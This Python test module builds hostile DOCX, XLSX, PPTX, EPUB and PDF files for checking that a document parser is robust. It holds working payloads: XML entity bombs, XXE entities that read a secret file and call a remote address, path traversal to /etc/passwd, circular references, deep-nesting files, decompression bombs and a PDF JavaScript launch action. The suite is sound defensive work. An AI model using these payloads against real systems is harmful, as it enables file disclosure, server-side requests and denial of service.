"""Hostile Office files, books and PDF files: XML that grows, relations in circles, claims that do not hold."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from pathlib import Path

from tests import honest
from tests.honest import BODY, TITLE
from tests.hostile import Hostile

_P = f"<w:p><w:r><w:t>{BODY}</w:t></w:r></w:p>"


def files(address: str, secret: Path) -> Iterator[Hostile]:
    """The files of every such format."""
    yield from _xml(address, secret)
    yield from _word(address)
    yield from _sheets()
    yield from _slides()
    yield from _books(address, secret)
    yield from _pdfs(address, secret)


def _xml(address: str, secret: Path) -> Iterator[Hostile]:
    """The same attacks on the main part of every format of XML."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    prologs = {
        "laughs": (f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"a" * 100_000}">]>', "&q;" * 20_000),
        "outside": (
            f'<!DOCTYPE x [<!ENTITY s SYSTEM "{secret.as_uri()}"><!ENTITY n SYSTEM "{address}/entity">]>',
            "&s;&n;",
        ),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/parameter"> %p;]>', ""),
        "dtd": (f'<!DOCTYPE x SYSTEM "{address}/dtd">', ""),
        "circle": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    }
    for name, (prolog, used) in prologs.items():
        yield Hostile(
            f"xml-{name}.docx", honest.zipped(honest.docx_parts(f"{_P}<w:p><w:r><w:t>{used}</w:t></w:r></w:p>", prolog))
        )
        row = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{BODY}{used}</t></is></c></row>'
        yield Hostile(f"xml-{name}.xlsx", honest.zipped(honest.xlsx_parts(row, prolog)))
        yield Hostile(
            f"xml-{name}.pptx", honest.zipped(honest.pptx_parts(honest.shape(BODY) + honest.shape(used), prolog))
        )
        yield Hostile(f"xml-{name}.epub", honest.zipped(honest.epub_parts(f"<p>{BODY}</p><p>{used}</p>", prolog)))
        rels = f"{prolog}{honest.relations([('officeDocument', 'word/document.xml')])}".replace(
            "</Rel", f"{used}</Rel", 1
        )
        yield Hostile(f"xml-{name}-relations.docx", honest.zipped({**honest.docx_parts(), "_rels/.rels": rels}))
    deep = "<w:sdt><w:sdtContent>" * 20_000
    yield Hostile("xml-deep.docx", honest.zipped(honest.docx_parts(deep + _P + "</w:sdtContent></w:sdt>" * 20_000)))
    boxes = "<w:p><w:r><w:txbxContent>" * 80 + _P + "</w:txbxContent></w:r></w:p>" * 80
    yield Hostile("xml-boxes.docx", honest.zipped(honest.docx_parts(boxes)))
    cells = "<w:tbl><w:tr><w:tc>" * 60 + _P + "</w:tc></w:tr></w:tbl>" * 60
    yield Hostile("xml-tables-in-tables.docx", honest.zipped(honest.docx_parts(cells)))
    attributes = " ".join(f'a{i}="1"' for i in range(100_000))
    yield Hostile(
        "xml-attributes.docx", honest.zipped(honest.docx_parts(f"<w:p {attributes}><w:r><w:t>{BODY}</w:t></w:r></w:p>"))
    )
    yield Hostile("xml-utf7.docx", honest.zipped(honest.docx_parts(prolog='<?xml version="1.0" encoding="utf-7"?>')))
    yield Hostile(
        "xml-not-utf8.docx",
        honest.zipped({**honest.docx_parts(), "word/document.xml": b"<a>\xff\xfe\x80</a>"}),
        "refused",
    )
    yield Hostile("xml-empty-part.docx", honest.zipped({**honest.docx_parts(), "word/document.xml": b""}), "refused")
    yield Hostile(
        "xml-control.docx", honest.zipped(honest.docx_parts(f"<w:p><w:r><w:t>&#0;&#x1b;{BODY}</w:t></w:r></w:p>"))
    )


def _word(address: str) -> Iterator[Hostile]:
    word = honest.docx_parts()
    yield Hostile("no-main-part.docx", honest.zipped({"_rels/.rels": word["_rels/.rels"]}), "refused")
    yield Hostile("no-relations.docx", honest.zipped({"word/document.xml": word["word/document.xml"]}))
    circle = honest.relations([("officeDocument", "_rels/.rels")])
    yield Hostile("relation-to-itself.docx", honest.zipped({**word, "_rels/.rels": circle}), "refused")
    own = honest.relations(
        [
            ("styles", "document.xml"),
            ("footnotes", "document.xml"),
            ("numbering", "document.xml"),
            ("header", "document.xml"),
        ]
    )
    yield Hostile("relations-in-a-circle.docx", honest.zipped({**word, "word/_rels/document.xml.rels": own}))
    outside = honest.relations(
        [("header", f"{address}/header"), ("image", f"{address}/image"), ("attachedTemplate", f"{address}/t")],
        ' TargetMode="External"',
    )
    yield Hostile("relations-outside.docx", honest.zipped({**word, "word/_rels/document.xml.rels": outside}), "read")
    climbing = honest.relations([("officeDocument", "../../../../etc/passwd")])
    yield Hostile("relations-climbing.docx", honest.zipped({**word, "_rels/.rels": climbing}), "refused")
    spans = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{_P}</w:tc></w:tr><w:tr><w:tc>{_P}</w:tc></w:tr></w:tbl>'
    yield Hostile("span-of-billions.docx", honest.zipped(honest.docx_parts(spans)))
    before = f'<w:tbl><w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr><w:tc>{_P}</w:tc><w:tc>{_P}</w:tc></w:tr></w:tbl>'
    yield Hostile("grid-before-of-billions.docx", honest.zipped(honest.docx_parts(before)))
    wide_row = "<w:tr>" + f"<w:tc>{_P}</w:tc>" * 400 + "</w:tr>"
    wide = f"<w:tbl>{wide_row * 3}</w:tbl>"
    yield Hostile("wide-table.docx", honest.zipped(honest.docx_parts(wide)))
    styles = (
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        + "".join(
            f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="s{i}"/><w:basedOn w:val="s{(i + 1) % 3000}"/></w:style>'
            for i in range(3000)
        )
        + "</w:styles>"
    )
    styled = honest.docx_parts(f'<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>{BODY}</w:t></w:r></w:p>')
    parts = {
        **styled,
        "word/styles.xml": styles,
        "word/_rels/document.xml.rels": honest.relations([("styles", "styles.xml")]),
    }
    yield Hostile("styles-in-a-circle.docx", honest.zipped(parts))
    numbered = f'<w:p><w:pPr><w:outlineLvl w:val="-5"/><w:numPr><w:numId w:val="7"/><w:ilvl w:val="{"9" * 4000}"/></w:numPr></w:pPr><w:r><w:t>{BODY}</w:t></w:r></w:p>'
    yield Hostile("numbers-absurd.docx", honest.zipped(honest.docx_parts(numbered)))
    notes = f'<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1">{_NOTE}</w:footnote></w:footnotes>'
    parts = {
        **honest.docx_parts(_P + _NOTE),
        "word/footnotes.xml": notes,
        "word/_rels/document.xml.rels": honest.relations([("footnotes", "footnotes.xml")]),
    }
    yield Hostile("note-that-notes-itself.docx", honest.zipped(parts))


_NOTE = f'<w:p><w:r><w:t>{BODY}</w:t><w:footnoteReference w:id="1"/><w:footnoteReference w:id="1"/></w:r></w:p>'


def _sheets() -> Iterator[Hostile]:
    yield Hostile("dimension-whole-sheet.xlsx", honest.zipped(honest.xlsx_parts(dimension="A1:XFD1048576")))
    far = f'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{BODY}</t></is></c></row>'
    yield Hostile("cell-far-away.xlsx", honest.zipped(honest.xlsx_parts(far)))
    both = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{BODY}</t></is></c></row>{far}'
    yield Hostile("cells-far-apart.xlsx", honest.zipped(honest.xlsx_parts(both)))
    yield Hostile(
        "row-beyond.xlsx",
        honest.zipped(
            honest.xlsx_parts(f'<row r="99999999999"><c r="ZZZZZZZ9" t="inlineStr"><is><t>{BODY}</t></is></c></row>')
        ),
    )
    for name, index in {"beyond": "9999999", "negative": "-1", "word": "x", "empty": ""}.items():
        row = f'<row r="1"><c r="A1" t="s"><v>{index}</v></c><c r="B1" t="inlineStr"><is><t>{BODY}</t></is></c></row>'
        yield Hostile(f"shared-string-{name}.xlsx", honest.zipped(honest.xlsx_parts(row)))
    loop = '<row r="1"><c r="A1"><f>B1</f></c><c r="B1"><f>A1</f></c><c r="C1"><f>SUM(A1:C1)</f><v>1</v></c></row>'
    yield Hostile("formulas-in-a-loop.xlsx", honest.zipped(honest.xlsx_parts(loop)))
    formula = f'<row r="1"><c r="A1"><f>{"(" * 50_000}1{")" * 50_000}</f><v>1</v></c><c r="B1" t="inlineStr"><is><t>{BODY}</t></is></c></row>'
    yield Hostile("formula-deep.xlsx", honest.zipped(honest.xlsx_parts(formula)))
    dates = "".join(
        f'<c r="A1" t="{kind}"><v>{value}</v></c>'
        for kind in ("d", "n", "b", "e", "z")
        for value in ("1e308", "-1", "NaN", "9" * 400, "x")
    )
    yield Hostile(
        "values-absurd.xlsx",
        honest.zipped(honest.xlsx_parts(f'<row r="1">{dates}<c t="inlineStr"><is><t>{BODY}</t></is></c></row>')),
    )
    merged = honest.xlsx_parts()
    sheet = str(merged["xl/worksheets/sheet1.xml"]).replace(
        "</worksheet>", '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="x"/></mergeCells></worksheet>'
    )
    yield Hostile("merged-whole-sheet.xlsx", honest.zipped({**merged, "xl/worksheets/sheet1.xml": sheet}))
    yield Hostile(
        "no-sheet.xlsx", honest.zipped({name: part for name, part in merged.items() if "sheet1" not in name}), "refused"
    )
    wide = "".join(f"<c><v>{i}</v></c>" for i in range(16_000))
    yield Hostile("wide.xlsx", honest.zipped(honest.xlsx_parts(f'<row r="1">{wide}</row><row r="2">{wide}</row>')))
    tall = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 5000))
    yield Hostile("tall.xlsx", honest.zipped(honest.xlsx_parts(tall)))


def _slides() -> Iterator[Hostile]:
    group = "<p:grpSp>" * 100 + honest.shape(BODY) + "</p:grpSp>" * 100
    yield Hostile("groups-deep.pptx", honest.zipped(honest.pptx_parts(group)))
    deep = "<p:grpSp>" * 30_000 + honest.shape(BODY) + "</p:grpSp>" * 30_000
    yield Hostile("groups-deepest.pptx", honest.zipped(honest.pptx_parts(deep)))
    twice = honest.pptx_parts(slides=3)
    itself = honest.relations(
        [("slide", "presentation.xml"), ("slide", "slides/slide1.xml"), ("slide", "slides/slide1.xml")]
    )
    yield Hostile("slide-that-is-the-show.pptx", honest.zipped({**twice, "ppt/_rels/presentation.xml.rels": itself}))
    missing = {name: part for name, part in honest.pptx_parts(slides=3).items() if "slide2" not in name}
    yield Hostile("slide-missing.pptx", honest.zipped(missing))
    table = (
        "<a:tbl>"
        + (
            "<a:tr>"
            + '<a:tc gridSpan="999999999"><a:txBody><a:p><a:r><a:t>甲</a:t></a:r></a:p></a:txBody></a:tc>' * 2
            + "</a:tr>"
        )
        * 2
        + "</a:tbl>"
    )
    frame = f"<p:graphicFrame><a:graphic><a:graphicData>{table}</a:graphicData></a:graphic></p:graphicFrame>"
    yield Hostile("table-of-billions.pptx", honest.zipped(honest.pptx_parts(honest.shape(BODY) + frame)))
    yield Hostile("many-slides.pptx", honest.zipped(honest.pptx_parts(slides=500)))


def _books(address: str, secret: Path) -> Iterator[Hostile]:
    book = honest.epub_parts()
    yield Hostile("no-container.epub", honest.zipped({**book, "META-INF/container.xml": "<x/>"}), "refused")
    yield Hostile("spine-again-and-again.epub", honest.zipped(honest.epub_parts(spine='<itemref idref="c"/>' * 3000)))
    yield Hostile("spine-missing.epub", honest.zipped(honest.epub_parts(spine='<itemref idref="x"/>')))
    opf = str(book["book.opf"])
    for name, target in {
        "climbing": "../../../../etc/passwd",
        "itself": "book.opf",
        "file": secret.as_uri(),
        "remote": f"{address}/chapter",
    }.items():
        yield Hostile(f"chapter-{name}.epub", honest.zipped({**book, "book.opf": opf.replace("c.xhtml", target)}))
    remote = f'<img src="{address}/img"/><script src="{address}/js"/><link rel="stylesheet" href="{address}/css"/><p>{BODY}</p>'
    yield Hostile("remote.epub", honest.zipped(honest.epub_parts(remote)), "read")
    yield Hostile("deep.epub", honest.zipped(honest.epub_parts("<div>" * 20_000 + BODY + "</div>" * 20_000)))
    ncx = (
        "<ncx><navMap>"
        + "<navPoint><navLabel><text>甲</text></navLabel>" * 5000
        + "</navPoint>" * 5000
        + "</navMap></ncx>"
    )
    yield Hostile(
        "contents-deep.epub",
        honest.zipped(
            {
                **book,
                "toc.ncx": ncx,
                "book.opf": opf.replace(
                    "<manifest>", '<manifest><item id="n" href="toc.ncx" media-type="application/x-dtbncx+xml"/>'
                ),
            }
        ),
    )


def _pdfs(address: str, secret: Path) -> Iterator[Hostile]:
    pages = {"2": "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}
    yield Hostile("pages-in-a-circle.pdf", honest.pdf(objects=pages))
    yield Hostile(
        "pages-of-billions.pdf", honest.pdf(objects={"2": "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"})
    )
    yield Hostile("pages-negative.pdf", honest.pdf(objects={"2": "<< /Type /Pages /Kids [3 0 R] /Count -1 >>"}))
    yield Hostile(
        "page-size-absurd.pdf",
        honest.pdf(
            objects={
                "3": "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e30 -1e30] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
            }
        ),
    )
    data = honest.pdf()
    table = data.rindex(b"startxref")
    yield Hostile(
        "xref-loop.pdf",
        data[:table].replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % data.index(b"xref\n")) + data[table:],
    )
    yield Hostile("xref-nowhere.pdf", data[:table] + b"startxref\n99999999999\n%%EOF\n")
    yield Hostile("xref-missing.pdf", data[: data.index(b"xref\n")])
    yield Hostile("only-head.pdf", b"%PDF-1.7\n", "refused")
    yield Hostile("nested-arrays.pdf", honest.pdf(objects={"6": "[" * 100_000}))
    yield Hostile("contents-themselves.pdf", honest.pdf(objects={"4": "4 0 R"}))
    blank = zlib.compress(bytes(50_000_000), 9)
    flate = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream"
    yield Hostile("stream-bomb.pdf", honest.pdf(objects={"4": flate % (len(blank), blank)}))
    twice = zlib.compress(blank, 9)
    doubled = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice)
    yield Hostile("stream-bomb-twice.pdf", honest.pdf(objects={"4": doubled}))
    yield Hostile("states-deep.pdf", honest.pdf(b"q " * 200_000 + b"BT /F 24 Tf (The reservoir was dredged.) Tj ET"))
    yield Hostile("text-many.pdf", honest.pdf(b"BT /F 1 Tf " + b"(abcdefgh ijkl) Tj " * 4000 + b"ET"))
    yield Hostile(
        "forms-in-a-circle.pdf",
        honest.pdf(
            b"/X Do",
            {
                "3": "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>",
                "6": b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 5 /Resources << /XObject << /X 6 0 R >> >> >>\nstream\n/X Do\nendstream",
            },
        ),
    )
    actions = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >> /AA << /O << /S /URI /URI ({address}/uri) >> >>"
    launch = f"<< /Type /Catalog /Pages 2 0 R {actions} /Names << /EmbeddedFiles << /Names [(a) << /F ({secret}) >>] >> >> >>"
    yield Hostile("script.pdf", honest.pdf(objects={"1": launch}))
    yield Hostile(
        "remote.pdf",
        honest.pdf(
            objects={
                "6": f"<< /FS /URL /F ({address}/external) >>",
                "4": f"<< /Length 0 /F << /FS /URL /F ({address}/stream) >> >>\nstream\n\nendstream",
            }
        ),
    )
    encrypted = data.replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /ID [<00> <00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <"
        + b"ab" * 32
        + b"> /U <"
        + b"cd" * 32
        + b"> >>",
    )
    yield Hostile("encrypted.pdf", encrypted, "refused")
    yield Hostile(
        "picture-of-billions.pdf",
        honest.pdf(
            b"q 595 0 0 842 0 0 cm /I Do Q",
            {
                "3": "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 6 0 R >> >> >>",
                "6": b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 3 >>\nstream\nabc\nendstream",
            },
        ),
    )
    title = f"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R /Lang ({TITLE}) >>"
    yield Hostile("metadata-bomb.pdf", honest.pdf(objects={"1": title, "6": flate % (len(blank), blank)}))
